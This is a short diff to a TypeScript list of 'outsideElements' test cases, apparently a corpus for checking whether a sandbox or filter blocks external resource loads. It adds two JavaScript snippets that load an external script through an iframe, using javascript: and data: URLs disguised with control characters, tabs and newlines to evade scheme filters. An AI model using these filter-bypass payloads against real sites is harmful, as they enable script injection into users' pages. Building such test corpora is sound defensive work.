@@ -318,6 +318,16 @@ export const outsideElements: readonly Way[] = [
     `const f = ${make('iframe')}; f.src = "javascript:" + encodeURIComponent(JSON.stringify("<script src=" + url + "></" + "script>")); document.body.append(f)`,
   ),
   code(
+    'frame-javascript-tabs',
+    'js',
+    `const f = ${make('iframe')}; f.src = "\\x01java\\tscript:" + encodeURIComponent(JSON.stringify("<script src=" + url + "></" + "script>")); document.body.append(f)`,
+  ),
+  code(
+    'frame-data-broken',
+    'js',
+    `const f = ${make('iframe')}; f.src = "da\\nta:text/html," + encodeURIComponent("<script src=" + url + "></" + "script>"); document.body.append(f)`,
+  ),
+  code(
     'frame-javascript-location',
     'txt',
     `${add('iframe')}.contentWindow.location = "javascript:" + encodeURIComponent(${packed})`,
